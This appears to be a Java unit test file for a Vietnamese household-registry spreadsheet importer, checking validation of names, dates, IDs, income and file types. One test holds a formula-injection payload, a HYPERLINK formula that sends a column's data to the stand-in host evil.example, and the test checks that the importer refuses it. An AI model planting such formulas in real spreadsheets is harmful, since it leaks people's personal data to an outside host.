package vn.ansinh.registry.application;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;
import static vn.ansinh.registry.application.ImportFiles.person;
import static vn.ansinh.registry.application.ImportFiles.review;
import static vn.ansinh.registry.application.ImportFiles.with;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.streaming.SXSSFWorkbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import vn.ansinh.registry.domain.DeprivationIndicator;
import vn.ansinh.registry.domain.Deprivations;
import vn.ansinh.registry.domain.Ethnicity;
import vn.ansinh.registry.domain.HealthInsuranceCardNumber;
import vn.ansinh.registry.domain.PartialDate;
import vn.ansinh.registry.domain.PersonalId;
import vn.ansinh.registry.domain.PhoneNumber;
import vn.ansinh.registry.domain.PovertyReviewFigures;
import vn.ansinh.registry.domain.Relationship;
import vn.ansinh.registry.domain.Sex;
import vn.ansinh.shared.upload.UploadMessage;

/** The import file read without a database: files made here with POI, as officers fill them in. */
class PersonImportParserTest {

    private static final LocalDate TODAY = LocalDate.of(2026, 3, 1);

    /** Điện Biên (011), a man born in 1948. */
    static final String THANH_ID = "011048001234";
    /** Điện Biên, a woman born in 1952. */
    static final String HOA_ID = "011152000321";
    /** Điện Biên, a boy born in 2010, typed into a number cell: Excel kept 11210000123. */
    static final String NAM_ID = "011210000123";

    private final PersonImportParser parser = new PersonImportParser(TODAY);

    /** Two households: a reviewed one of three people, and one of one person without review. */
    static ImportFiles validFile() {
        return ImportFiles.withTemplateHeaders()
                .row(review(
                        with(
                                person(1, "Lò Văn Thành", "15/03/1948", "Nam", "Thái", THANH_ID, "H01", "Chủ hộ"),
                                ImportColumn.ADDRESS,
                                "Bản Co Sản"),
                        2025,
                        1_200_000,
                        ImportColumn.EMPLOYMENT,
                        ImportColumn.HEALTH_INSURANCE,
                        ImportColumn.DOMESTIC_WATER))
                .row(person(2, "Lò Thị Hoa", "03/1952", "Nữ", "03", HOA_ID, "H01", "Vợ/chồng"))
                .row(person(3, "Lò Văn Nam", LocalDate.of(2010, 5, 15), "Nam", 3, 11_210_000_123L, "h01", "Con"))
                .numberedEmptyRow(4)
                .row(with(
                        with(
                                person(5, "Nguyễn Văn An", 1975, "nam", "Kinh", null, "H02", "Chủ hộ"),
                                ImportColumn.PHONE,
                                "0912 345 678"),
                        ImportColumn.HEALTH_INSURANCE_CARD,
                        "HN4111234567890"));
    }

    @Test
    void aValidFileGivesEveryPersonTheirHouseholdAndTheHeadsReview() {
        ImportReport report = parse("ra-soat-2025.xlsx", validFile().bytes());

        assertThat(report.errors()).isEmpty();
        assertThat(report.fileName()).isEqualTo("ra-soat-2025.xlsx");
        assertThat(report.dataRowCount()).isEqualTo(4);
        assertThat(report.rowsToImport()).extracting(ImportRow::rowNumber).containsExactly(2, 3, 4, 6);
        assertThat(report.householdsToImport()).isEqualTo(2);
        assertThat(report.reviewsToImport()).isEqualTo(1);
        assertThat(report.canImport()).isTrue();
        assertThat(report.rowsLeftOut()).isZero();

        ImportRow head = report.rowsToImport().get(0);
        assertThat(head.person().fullName()).isEqualTo("Lò Văn Thành");
        assertThat(head.person().birthDate()).isEqualTo(PartialDate.of(1948, 3, 15));
        assertThat(head.person().sex()).isEqualTo(Sex.MALE);
        assertThat(head.person().ethnicity()).isEqualTo(Ethnicity.THAI);
        assertThat(head.person().personalId()).isEqualTo(PersonalId.of(THANH_ID));
        assertThat(head.person().address()).isEqualTo("Bản Co Sản");
        assertThat(head.relationship()).isEqualTo(Relationship.HEAD);
        assertThat(head.review())
                .isEqualTo(new PovertyReviewFigures(
                        2025,
                        1_200_000,
                        Deprivations.of(
                                DeprivationIndicator.EMPLOYMENT,
                                DeprivationIndicator.HEALTH_INSURANCE,
                                DeprivationIndicator.DOMESTIC_WATER)));

        ImportRow spouse = report.rowsToImport().get(1);
        assertThat(spouse.person().birthDate()).isEqualTo(PartialDate.of(1952, 3));
        assertThat(spouse.person().ethnicity()).isEqualTo(Ethnicity.THAI);
        assertThat(spouse.relationship()).isEqualTo(Relationship.SPOUSE);
        assertThat(spouse.review()).isNull();

        ImportRow child = report.rowsToImport().get(2);
        assertThat(child.person().birthDate()).as("a real date cell").isEqualTo(PartialDate.of(2010, 5, 15));
        assertThat(child.person().ethnicity()).as("the code typed as a number").isEqualTo(Ethnicity.THAI);
        assertThat(child.person().personalId()).isEqualTo(PersonalId.of(NAM_ID));
        assertThat(child.householdIdentity()).as("h01 is H01").isEqualTo(head.householdIdentity());

        ImportRow other = report.rowsToImport().get(3);
        assertThat(other.person().birthDate()).as("a year typed as a number").isEqualTo(PartialDate.of(1975));
        assertThat(other.person().ethnicity()).isEqualTo(Ethnicity.KINH);
        assertThat(other.person().personalId()).isNull();
        assertThat(other.person().phone()).isEqualTo(PhoneNumber.of("0912345678"));
        assertThat(other.person().healthInsuranceCard()).isEqualTo(HealthInsuranceCardNumber.of("HN4111234567890"));

        assertThat(report.warnings())
                .extracting(
                        UploadMessage::rowNumber,
                        UploadMessage::cell,
                        UploadMessage::messageKey,
                        UploadMessage::arguments)
                .containsExactly(tuple(4, "F4", "import.warning.leadingZeros", List.of(NAM_ID)));
    }

    @Test
    void eachBadCellIsReportedAtItsRowAndColumnAndKeepsItsWholeHouseholdOut() {
        byte[] file = ImportFiles.withTemplateHeaders()
                // row 2: H01 head, but its personal ID is also on row 8
                .row(person(1, "Lò Văn Thành", "15/03/1948", "Nam", "Thái", THANH_ID, "H01", "Chủ hộ"))
                // row 3: H01, a day that February 1980 does not have
                .row(person(2, "Lò Thị Mai", "31/02/1980", "Nữ", "Thái", null, "H01", "Con"))
                // row 4: H02 head: an unknown ethnic group, and a woman's ID for a man
                .row(person(3, "Quàng Văn Minh", "1960", "Nam", "Thaii", HOA_ID, "H02", "Chủ hộ"))
                // row 5: H02, a review on a child's row
                .row(review(person(4, "Quàng Thị Dung", "2001", "Nữ", "Thái", null, "H02", "Con"), 2025, 900_000))
                // row 6: H03 has no head
                .row(person(5, "Cà Thị Lan", "1970", "Nữ", "Thái", null, "H03", "Vợ"))
                // row 7: H04, a clean household of one
                .row(person(6, "Lường Văn Hưng", "1990", "Nam", "Thái", null, "H04", "Chủ hộ"))
                // row 8: H05 head repeating row 2's personal ID
                .row(person(7, "Lò Văn Thanh", "1948", "Nam", "Thái", THANH_ID, "H05", "Chủ hộ"))
                // row 9: H06 head: income not a number, a mark that is not x, no year
                .row(with(
                        review(
                                person(8, "Tòng Văn Ơn", "1955", "Nam", "Thái", null, "H06", "Chủ hộ"),
                                null,
                                "khoảng 1 triệu"),
                        ImportColumn.NUTRITION,
                        "có"))
                // row 10: H06, clean itself, left out with its household
                .row(person(9, "Tòng Thị Xuân", "1958", "Nữ", "Thái", null, "H06", "Vợ/chồng"))
                // row 11: nothing required filled but the name, with a digit
                .row(with(new Object[ImportColumn.values().length], ImportColumn.FULL_NAME, "Nguyễn Văn 2"))
                // row 12: H07: an unknown relationship, a bad sex, a birth in the future
                .row(person(11, "Điêu Văn Khánh", "2027", "Trai", "01", null, "H07", "Hàng xóm"))
                .bytes();

        ImportReport report = parse("danh-sach.xlsx", file);

        assertThat(report.problems())
                .extracting(
                        UploadMessage::rowNumber,
                        UploadMessage::cell,
                        UploadMessage::severity,
                        UploadMessage::messageKey,
                        UploadMessage::arguments)
                .containsExactly(
                        tuple(2, "F2", UploadMessage.Severity.ERROR, "import.error.personalId.repeated", List.of("8")),
                        tuple(
                                3,
                                "C3",
                                UploadMessage.Severity.ERROR,
                                "person.error.birthDate.day",
                                List.of(31, 2, "1980")),
                        tuple(4, "E4", UploadMessage.Severity.ERROR, "person.error.ethnicity.name", List.of("Thaii")),
                        tuple(4, "F4", UploadMessage.Severity.ERROR, "person.error.personalId.sexMismatch", List.of()),
                        tuple(
                                4,
                                "F4",
                                UploadMessage.Severity.ERROR,
                                "person.error.personalId.birthYearMismatch",
                                List.of()),
                        tuple(5, "M5", UploadMessage.Severity.ERROR, "import.error.review.notHead", List.of()),
                        tuple(6, "L6", UploadMessage.Severity.ERROR, "import.error.household.noHead", List.of("H03")),
                        tuple(8, "F8", UploadMessage.Severity.ERROR, "import.error.personalId.repeated", List.of("2")),
                        tuple(9, "M9", UploadMessage.Severity.ERROR, "import.error.review.yearMissing", List.of()),
                        tuple(9, "N9", UploadMessage.Severity.ERROR, "import.error.review.incomeFormat", List.of()),
                        tuple(9, "Q9", UploadMessage.Severity.ERROR, "import.error.review.mark", List.of()),
                        tuple(
                                10,
                                "K10",
                                UploadMessage.Severity.ERROR,
                                "import.error.household.hasErrors",
                                List.of("H06", "9")),
                        tuple(11, "B11", UploadMessage.Severity.ERROR, "person.error.name.digits", List.of()),
                        tuple(11, "C11", UploadMessage.Severity.ERROR, "import.error.required", List.of()),
                        tuple(11, "D11", UploadMessage.Severity.ERROR, "import.error.required", List.of()),
                        tuple(11, "E11", UploadMessage.Severity.ERROR, "import.error.required", List.of()),
                        tuple(11, "K11", UploadMessage.Severity.ERROR, "import.error.required", List.of()),
                        tuple(11, "L11", UploadMessage.Severity.ERROR, "import.error.required", List.of()),
                        tuple(12, "C12", UploadMessage.Severity.ERROR, "person.error.birthDate.future", List.of()),
                        tuple(12, "D12", UploadMessage.Severity.ERROR, "person.error.sex", List.of()),
                        tuple(
                                12,
                                "L12",
                                UploadMessage.Severity.ERROR,
                                "household.error.relationship",
                                List.of("Hàng xóm")));
        assertThat(report.rowsToImport()).extracting(ImportRow::rowNumber).containsExactly(7);
        assertThat(report.dataRowCount()).isEqualTo(11);
        assertThat(report.rowsLeftOut()).isEqualTo(10);
        assertThat(report.rowsWithErrors()).containsExactlyInAnyOrder(2, 3, 4, 5, 6, 8, 9, 10, 11, 12);
        assertThat(report.problemsOfRow(4)).hasSize(3);
        assertThat(report.canImport()).isTrue();
    }

    @Test
    void aNameOrAddressThatASpreadsheetWouldRunAsAFormulaIsRefusedAtItsCell() {
        byte[] file = ImportFiles.withTemplateHeaders()
                .row(person(
                        1,
                        "=HYPERLINK(\"http://evil.example/?q=\"&A:A,\"x\")",
                        "1960",
                        "Nam",
                        "Thái",
                        null,
                        "H01",
                        "Chủ hộ"))
                .row(with(
                        person(2, "Lò Thị Hoa", "1962", "Nữ", "Thái", null, "H02", "Chủ hộ"),
                        ImportColumn.ADDRESS,
                        "+84 Bản Co Sản"))
                .bytes();

        ImportReport report = parse("danh-sach.xlsx", file);

        assertThat(report.problems())
                .extracting(UploadMessage::rowNumber, UploadMessage::messageKey)
                .contains(tuple(2, "text.error.formula"), tuple(3, "text.error.formula"));
        assertThat(report.rowsToImport()).isEmpty();
    }

    @Test
    void aHouseholdWithTwoHeadsIsRefusedOnBothHeadRows() {
        ImportReport report = parse(
                "x.xlsx",
                ImportFiles.withTemplateHeaders()
                        .row(person(1, "Lò Văn Thành", "1948", "Nam", "Thái", null, "H01", "Chủ hộ"))
                        .row(person(2, "Lò Văn Tuấn", "1950", "Nam", "Thái", null, "H01", "Chủ hộ"))
                        .bytes());

        assertThat(report.problems())
                .extracting(UploadMessage::cell, UploadMessage::messageKey, UploadMessage::arguments)
                .containsExactly(
                        tuple("L2", "import.error.household.manyHeads", List.of("H01", "2, 3")),
                        tuple("L3", "import.error.household.manyHeads", List.of("H01", "2, 3")));
        assertThat(report.canImport()).isFalse();
    }

    @Test
    void incomeIsReadAsTypedInVietnameseOrAsANumberAndAHeadMayHaveNoReview() {
        ImportReport report = parse(
                "x.xlsx",
                ImportFiles.withTemplateHeaders()
                        .row(review(
                                person(1, "A Thị Một", "1960", "Nữ", "Mông", null, "1", "Chủ hộ"),
                                "2025",
                                "1.500.000 đ"))
                        .row(review(
                                person(2, "A Thị Hai", "1961", "Nữ", "Mông", null, "2", "Chủ hộ"), 2025, "2,250,000"))
                        .row(review(
                                person(3, "A Thị Ba", "1962", "Nữ", "Mông", null, "3", "Chủ hộ"), 2025, 1_166_666.67))
                        .row(review(person(4, "A Thị Bốn", "1963", "Nữ", "Mông", null, "4", "Chủ hộ"), 2024, "-5"))
                        .row(review(person(5, "A Thị Năm", "1964", "Nữ", "Mông", null, "5", "Chủ hộ"), 2015, 1_000_000))
                        .row(review(person(6, "A Thị Sáu", "1965", "Nữ", "Mông", null, "6", "Chủ hộ"), "25", 1_000_000))
                        .bytes());

        assertThat(report.rowsToImport())
                .extracting(r -> r.review().incomePerCapita())
                .containsExactly(1_500_000L, 2_250_000L, 1_166_667L);
        assertThat(report.problems())
                .extracting(UploadMessage::cell, UploadMessage::messageKey, UploadMessage::arguments)
                .containsExactly(
                        tuple("N5", "review.error.income", List.of()),
                        tuple("M6", "review.error.year", List.of("2015")),
                        tuple("M7", "import.error.review.yearFormat", List.of()));
    }

    @Test
    void columnsMayComeInAnotherOrderUnderATitleAndUnknownColumnsAreOnlyWarnedOf() {
        ImportReport report = parse(
                "x.xlsx",
                ImportFiles.withHeaders(
                                "Quan hệ với chủ hộ",
                                "Mã hộ trong tệp",
                                "HỌ VÀ TÊN",
                                "Ngay sinh",
                                "Giới tính",
                                "Dân tộc",
                                "Số định danh cá nhân",
                                "Số CMND cũ",
                                "Mã thẻ BHYT",
                                "Số điện thoại",
                                "Địa chỉ",
                                "Ghi chú",
                                "Năm rà soát",
                                "Thu nhập bình quân đầu người",
                                "Việc làm",
                                "Người phụ thuộc trong hộ",
                                "Dinh dưỡng",
                                "Bảo hiểm y tế",
                                "Trình độ giáo dục của người lớn",
                                "Tình trạng đi học của trẻ em",
                                "Chất lượng nhà ở",
                                "Diện tích nhà ở bình quân đầu người",
                                "Nguồn nước sinh hoạt",
                                "Nhà tiêu hợp vệ sinh",
                                "Sử dụng dịch vụ viễn thông",
                                "Phương tiện phục vụ tiếp cận thông tin")
                        .titleRow("DANH SÁCH HỘ GIA ĐÌNH XÃ TUẦN GIÁO NĂM 2025")
                        .titleRow("")
                        .row(
                                "Chủ hộ",
                                "H1",
                                "Lò Văn Thành",
                                "1948",
                                "Nam",
                                "Thái",
                                null,
                                null,
                                null,
                                null,
                                null,
                                "đã chuyển đến 2020")
                        .bytes());

        assertThat(report.errors()).isEmpty();
        assertThat(report.warnings())
                .extracting(UploadMessage::isFileLevel, UploadMessage::messageKey, UploadMessage::arguments)
                .containsExactly(tuple(true, "import.warning.header.unknown", List.of("L3", "Ghi chú")));
        assertThat(report.rowsToImport()).singleElement().satisfies(row -> {
            assertThat(row.rowNumber()).isEqualTo(4);
            assertThat(row.person().fullName()).isEqualTo("Lò Văn Thành");
            assertThat(row.relationship()).isEqualTo(Relationship.HEAD);
        });
    }

    @Test
    void missingAndRepeatedHeadersAreNamedAndNoRowIsRead() {
        ImportReport report = parse(
                "x.xlsx",
                ImportFiles.withHeaders(
                                "STT", "Họ và tên", "Ngày sinh nhật", "Giới tính", "Giới tính", "Số định danh cá nhân")
                        .row(1, "Lò Văn Thành", "1948", "Nam", "Nam", THANH_ID)
                        .bytes());

        assertThat(report.problems())
                .extracting(UploadMessage::severity, UploadMessage::messageKey, UploadMessage::arguments)
                .contains(
                        tuple(
                                UploadMessage.Severity.WARNING,
                                "import.warning.header.unknown",
                                List.of("C1", "Ngày sinh nhật")),
                        tuple(
                                UploadMessage.Severity.ERROR,
                                "import.error.header.repeated",
                                List.of("Giới tính", "D", "E")),
                        tuple(UploadMessage.Severity.ERROR, "import.error.header.missing", List.of("Ngày sinh", "1")),
                        tuple(UploadMessage.Severity.ERROR, "import.error.header.missing", List.of("Dân tộc", "1")),
                        tuple(
                                UploadMessage.Severity.ERROR,
                                "import.error.header.missing",
                                List.of("Mã hộ trong tệp", "1")),
                        tuple(
                                UploadMessage.Severity.ERROR,
                                "import.error.header.missing",
                                List.of("Nguồn nước sinh hoạt", "1")));
        assertThat(report.problems())
                .filteredOn(p -> p.messageKey().equals("import.error.header.missing"))
                .as("every template column but STT, Họ và tên, Giới tính, Số định danh cá nhân")
                .hasSize(22);
        assertThat(report.problems()).allMatch(UploadMessage::isFileLevel);
        assertThat(report.hasFileErrors()).isTrue();
        assertThat(report.rowsToImport()).isEmpty();
        assertThat(report.canImport()).isFalse();
    }

    @Test
    void aSheetWithoutTheHeaderRowIsRefused() {
        ImportReport report = parse(
                "x.xlsx",
                ImportFiles.withHeaders("Tên", "Năm sinh")
                        .row("Lò Văn Thành", 1948)
                        .bytes());

        assertThat(report.problems())
                .extracting(UploadMessage::messageKey, UploadMessage::arguments)
                .containsExactly(tuple("import.error.header.notFound", List.of(ImportTemplate.DATA_SHEET, 10)));
    }

    @Test
    void anEmptyWorkbookIsRefusedForWantOfTheHeaderRow() throws IOException {
        byte[] empty;
        try (XSSFWorkbook workbook = new XSSFWorkbook();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            workbook.createSheet("Sheet1");
            workbook.write(out);
            empty = out.toByteArray();
        }

        assertThat(parse("trong.xlsx", empty).problems())
                .extracting(UploadMessage::messageKey, UploadMessage::arguments)
                .containsExactly(tuple("import.error.header.notFound", List.of("Sheet1", 10)));
    }

    @Test
    void aFileWithTheHeaderRowOnlyHasNoDataRows() {
        ImportReport report = parse(
                "x.xlsx",
                ImportFiles.withTemplateHeaders()
                        .numberedEmptyRow(1)
                        .numberedEmptyRow(2)
                        .bytes());

        assertThat(report.problems())
                .extracting(UploadMessage::messageKey, UploadMessage::arguments)
                .containsExactly(tuple("import.error.noRows", List.of(ImportTemplate.DATA_SHEET)));
        assertThat(report.dataRowCount()).isZero();
    }

    @Test
    void theDataSheetIsReadEvenWhenItIsNotTheFirstOne() throws IOException {
        byte[] file;
        try (XSSFWorkbook workbook =
                        new XSSFWorkbook(new ByteArrayInputStream(validFile().bytes()));
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            workbook.createSheet("Ghi chú").createRow(0).createCell(0).setCellValue("Họ và tên");
            workbook.setSheetOrder("Ghi chú", 0);
            workbook.write(out);
            file = out.toByteArray();
        }

        assertThat(parse("x.xlsx", file).rowsToImport()).hasSize(4);
    }

    @Test
    void moreThanTwentyThousandDataRowsAreRefused() throws IOException {
        byte[] file;
        try (SXSSFWorkbook workbook = new SXSSFWorkbook(100);
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            Sheet sheet = workbook.createSheet(ImportTemplate.DATA_SHEET);
            Row header = sheet.createRow(0);
            for (ImportColumn column : ImportColumn.values()) {
                header.createCell(column.ordinal()).setCellValue(column.header());
            }
            for (int i = 1; i <= PersonImportParser.DEFAULT_MAX_DATA_ROWS + 1; i++) {
                Row row = sheet.createRow(i);
                row.createCell(ImportColumn.FULL_NAME.ordinal()).setCellValue("Người thứ " + i);
            }
            workbook.write(out);
            workbook.dispose();
            file = out.toByteArray();
        }

        ImportReport report = parse("lon.xlsx", file);

        assertThat(report.problems())
                .extracting(UploadMessage::messageKey, UploadMessage::arguments)
                .containsExactly(tuple("import.error.tooManyRows", List.of(20_000)));
        assertThat(report.canImport()).isFalse();
    }

    @Test
    void exactlyTheRowLimitIsAccepted() {
        ImportFiles file = ImportFiles.withTemplateHeaders();
        for (int i = 1; i <= 3; i++) {
            file.row(person(i, "Người Thứ", "1990", "Nam", "Kinh", null, "H" + i, "Chủ hộ"));
        }

        assertThat(new PersonImportParser(TODAY, PersonImportParser.DEFAULT_MAX_BYTES, 3)
                        .parse("x.xlsx", 0, new ByteArrayInputStream(file.bytes()))
                        .rowsToImport())
                .hasSize(3);
        assertThat(new PersonImportParser(TODAY, PersonImportParser.DEFAULT_MAX_BYTES, 2)
                        .parse("x.xlsx", 0, new ByteArrayInputStream(file.bytes()))
                        .problems())
                .extracting(UploadMessage::messageKey)
                .containsExactly("import.error.tooManyRows");
    }

    @Test
    void aFileTooBigIsRefusedByItsDeclaredSizeAndByWhatIsActuallyRead() {
        byte[] file = validFile().bytes();
        PersonImportParser small = new PersonImportParser(TODAY, file.length - 1, 100);

        ImportReport declared = small.parse("to.xlsx", file.length, new ByteArrayInputStream(file));
        ImportReport understated = small.parse("to.xlsx", 10, new ByteArrayInputStream(file));
        ImportReport tenMegabytes = parser.parse("to.xlsx", 10L * 1024 * 1024 + 1, new ByteArrayInputStream(file));

        assertThat(declared.problems())
                .extracting(UploadMessage::messageKey, UploadMessage::arguments)
                .containsExactly(tuple("import.error.tooBig", List.of("to.xlsx", 1L)));
        assertThat(understated.problems()).extracting(UploadMessage::messageKey).containsExactly("import.error.tooBig");
        assertThat(tenMegabytes.problems())
                .extracting(UploadMessage::messageKey, UploadMessage::arguments)
                .containsExactly(tuple("import.error.tooBig", List.of("to.xlsx", 10L)));
        assertThat(new PersonImportParser(TODAY, file.length, 100)
                        .parse("to.xlsx", file.length, new ByteArrayInputStream(file))
                        .errors())
                .as("a file of exactly the limit")
                .isEmpty();
    }

    @Test
    void aTextOrCsvFileRenamedXlsxIsRecognised() {
        byte[] csv = "STT,Họ và tên,Ngày sinh\n1,Lò Văn Thành,15/03/1948\n".getBytes(StandardCharsets.UTF_8);

        assertThat(fileErrors("danh-sach.xlsx", csv))
                .containsExactly(tuple("import.error.type.text", List.of("danh-sach.xlsx")));
    }

    @Test
    void aPdfRenamedXlsxIsRecognised() {
        byte[] pdf = "%PDF-1.7\n%âãÏÓ\n1 0 obj\n".getBytes(StandardCharsets.ISO_8859_1);

        assertThat(fileErrors("quyet-dinh.xlsx", pdf))
                .containsExactly(tuple("import.error.type.pdf", List.of("quyet-dinh.xlsx")));
    }

    @Test
    void anOldExcelFileIsToldToBeSavedAsXlsx() throws IOException {
        byte[] xls;
        try (HSSFWorkbook workbook = new HSSFWorkbook();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            workbook.createSheet(ImportTemplate.DATA_SHEET)
                    .createRow(0)
                    .createCell(0)
                    .setCellValue("Họ và tên");
            workbook.write(out);
            xls = out.toByteArray();
        }

        assertThat(fileErrors("danh-sach.xlsx", xls))
                .containsExactly(tuple("import.error.type.xls", List.of("danh-sach.xlsx")));
    }

    @Test
    void aPasswordProtectedWorkbookIsToldApart() throws Exception {
        byte[] encrypted;
        try (POIFSFileSystem fs = new POIFSFileSystem();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            Encryptor encryptor = new EncryptionInfo(EncryptionMode.agile).getEncryptor();
            encryptor.confirmPassword("matkhau");
            try (OutputStream os = encryptor.getDataStream(fs)) {
                os.write(validFile().bytes());
            }
            fs.writeFilesystem(out);
            encrypted = out.toByteArray();
        }

        assertThat(fileErrors("x.xlsx", encrypted))
                .containsExactly(tuple("import.error.type.encrypted", List.of("x.xlsx")));
    }

    @Test
    void aZipFileThatIsNoWorkbookIsUnreadable() throws IOException {
        ByteArrayOutputStream zip = new ByteArrayOutputStream();
        try (ZipOutputStream out = new ZipOutputStream(zip)) {
            out.putNextEntry(new ZipEntry("readme.txt"));
            out.write("not a workbook".getBytes(StandardCharsets.UTF_8));
            out.closeEntry();
        }
        byte[] truncated = java.util.Arrays.copyOf(validFile().bytes(), 600);

        assertThat(fileErrors("x.xlsx", zip.toByteArray()))
                .containsExactly(tuple("import.error.type.unreadable", List.of("x.xlsx")));
        assertThat(fileErrors("x.xlsx", truncated))
                .containsExactly(tuple("import.error.type.unreadable", List.of("x.xlsx")));
    }

    @Test
    void anEmptyUploadAndRandomBytesAreRefused() {
        assertThat(fileErrors("x.xlsx", new byte[0]))
                .containsExactly(tuple("import.error.type.empty", List.of("x.xlsx")));
        assertThat(fileErrors("anh.xlsx", new byte[] {(byte) 0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0}))
                .containsExactly(tuple("import.error.type.other", List.of("anh.xlsx")));
    }

    @Test
    void theReportSurvivesSerialisationForAViewScopedPage() throws Exception {
        ImportReport report = parse("x.xlsx", validFile().bytes());
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(report);
        }

        ImportReport copy;
        try (ObjectInputStream in = new ObjectInputStream(new ByteArrayInputStream(bytes.toByteArray()))) {
            copy = (ImportReport) in.readObject();
        }

        assertThat(copy.rowsToImport()).isEqualTo(report.rowsToImport());
        assertThat(copy.problems()).isEqualTo(report.problems());
    }

    private ImportReport parse(String name, byte[] file) {
        return parser.parse(name, file.length, new ByteArrayInputStream(file));
    }

    private List<org.assertj.core.groups.Tuple> fileErrors(String name, byte[] file) {
        ImportReport report = parse(name, file);
        assertThat(report.problems()).allMatch(p -> p.isFileLevel() && p.isError());
        assertThat(report.canImport()).isFalse();
        return report.problems().stream()
                .map(p -> tuple(p.messageKey(), p.arguments()))
                .toList();
    }
}
